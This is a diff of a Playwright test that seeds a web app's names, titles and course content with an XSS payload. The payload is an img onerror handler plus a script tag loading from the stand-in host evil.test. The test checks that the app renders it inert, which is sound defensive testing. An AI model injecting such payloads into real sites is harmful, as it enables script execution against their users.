@@ -1,6 +1,8 @@
 import { expect, type Page, test } from '@playwright/test';
 import { screenKeys, screenOf } from '../../shared/access/screens.ts';
-import { enrol, publishCourse } from './journey-data.ts';
+import { CREATE, EDIT, text } from '../fixtures/courses.ts';
+import { png } from '../fixtures/images.ts';
+import { askAs, AUTHOR, enrol, type JourneyCourse, uploadAs } from './journey-data.ts';
 import { at, signIn } from './walk.ts';
 
 /** Everything the browser's policy refused on the pages that follow, by what was refused. */
@@ -29,12 +31,68 @@ function pathsOf(values: Readonly<Record<string, string>>): string[] {
   });
 }
 
-test('no screen writes HTML against the Trusted Types policy, which is enforced [X01]', async ({ page }) => {
+/** What a browser that took a name for markup would ask for, and run. */
+const MARKUP = `"><img src=//evil.test onerror="document.title='broken'"><script src=//evil.test/s></script>`;
+
+/** Makes one of everything that has a name or a title, with markup in it. Returns the ids by which screens show them. */
+async function entitiesOfMarkup(): Promise<Record<'id' | 'course' | 'user' | 'branch' | 'group' | 'category', string>> {
+  const admin = 'admin@acme.test';
+  const unique = String(Date.now());
+  type Id = { readonly id: string };
+  const { createBranch: branch } = await askAs<{ createBranch: Id }>(
+    admin,
+    'mutation ($input: BranchInput!) { createBranch(input: $input) { id } }',
+    { input: { name: MARKUP, url: `m${unique}` } },
+  );
+  const person = { first_name: MARKUP, last_name: MARKUP, email: `m${unique}@acme.test`, role: 'learner' };
+  const { CreateUser: user } = await askAs<{ CreateUser: Id }>(
+    admin,
+    'mutation ($input: CreateUserInput!) { CreateUser(input: $input) { id } }',
+    { input: { ...person, password: 'trellis-demo-1', skip_email: true } },
+  );
+  const { createGroup: group } = await askAs<{ createGroup: Id }>(
+    admin,
+    'mutation ($name: String!) { createGroup(input: { name: $name }) { id } }',
+    { name: MARKUP },
+  );
+  const { CreateCategory: category } = await askAs<{ CreateCategory: Id }>(
+    admin,
+    'mutation ($name: String!) { CreateCategory(name: $name) { id } }',
+    { name: MARKUP },
+  );
+  const { CreateResourceCategory: kind } = await askAs<{ CreateResourceCategory: Id }>(
+    admin,
+    'mutation ($name: String!) { CreateResourceCategory(name: $name) { id } }',
+    { name: MARKUP },
+  );
+  const options = [{ text: MARKUP, checked: true }, { text: `${MARKUP}!` }];
+  const course = await askAs<{ CreateCourse: JourneyCourse }>(admin, CREATE, {
+    title: MARKUP,
+    description: MARKUP,
+    content: [{ unit_order: 1, title: MARKUP, content: text(`${MARKUP}\n`) }],
+    assignment: [{ unit_order: 2, title: MARKUP, content: MARKUP }],
+    test_units: [{ unit_order: 3, title: MARKUP }],
+    tests: [{ unit_order: 3, type: 'Multiple Choice', question: MARKUP, options }],
+    categories: [{ id: category.id }],
+  });
+  const url = await uploadAs(AUTHOR, 'content', 'a.png', png());
+  const resources = [{ name: MARKUP, file_path: url, is_downloadable: true, category_id: kind.id }];
+  await askAs(admin, EDIT, { input: { id: course.CreateCourse.id, resources } });
+  await enrol('learner@acme.test', course.CreateCourse);
+  const { id } = course.CreateCourse;
+  return { id, course: id, user: user.id, branch: branch.id, group: group.id, category: category.id };
+}
+
+test('no screen writes HTML against the Trusted Types policy, which is enforced, and no name or title is taken for markup [X01]', async ({
+  page,
+}) => {
   test.setTimeout(360_000);
   const refused = await listen(page);
-  const course = await publishCourse(`Trusted ${Date.now()}`);
-  await enrol('learner@acme.test', course);
-  const values = { id: course.id, course: course.id, user: '6', branch: '1', instanceId: '1', code: 'none' };
+  const made = await entitiesOfMarkup();
+  const values = { ...made, instanceId: '1', code: 'none' };
+  page.on('request', (request) => {
+    if (request.url().includes('evil.test')) refused.push(`${page.url()}: asked for ${request.url()}`);
+  });
   const visit = async (paths: readonly string[]): Promise<void> => {
     for (const path of paths) {
       await page.goto(at('acme', path));
@@ -42,16 +100,22 @@ test('no screen writes HTML against the Trusted Types policy, which is enforced 
       if (path.startsWith('/choose-branch')) await expect(page.getByRole('heading', { level: 1, name: 'Dashboard' })).toBeVisible();
       await expect(page.locator('h1, [role="alert"]').first()).toBeVisible();
       await expect(page.locator('[aria-busy="true"]')).toHaveCount(0);
+      expect([path, (await page.title()).includes('broken')]).toEqual([path, false]);
     }
   };
   const all = pathsOf(values).filter((path) => path !== '/logout');
   await visit(all.filter((path) => /^\/(login|forgot|password|set-|verify)/.test(path)));
   await signIn(page, 'admin@acme.test');
   await visit(all.filter((path) => !path.startsWith('/login')));
+  await visit([`/group/${made.group}`, `/category/${made.category}/edit`]);
   await page.evaluate(() => localStorage.clear());
   await signIn(page, 'learner@acme.test');
   await visit(all.filter((path) => path.startsWith('/learner') || path === '/profile').map((path) => `/branch/north${path}`));
   expect(refused).toEqual([]);
+  // They were shown as they are written.
+  await page.goto(at('acme', `/branch/north/learner/catalog/course/${made.course}`));
+  await expect(page.getByRole('heading', { level: 1, name: MARKUP })).toBeVisible();
+  await askAs('admin@acme.test', 'mutation ($id: ID!) { DeleteBranch(branch_id: $id) }', { id: made.branch });
 
   // The policy itself: markup is purified or refused, wherever it is put.
   const written = await page.evaluate(() => {
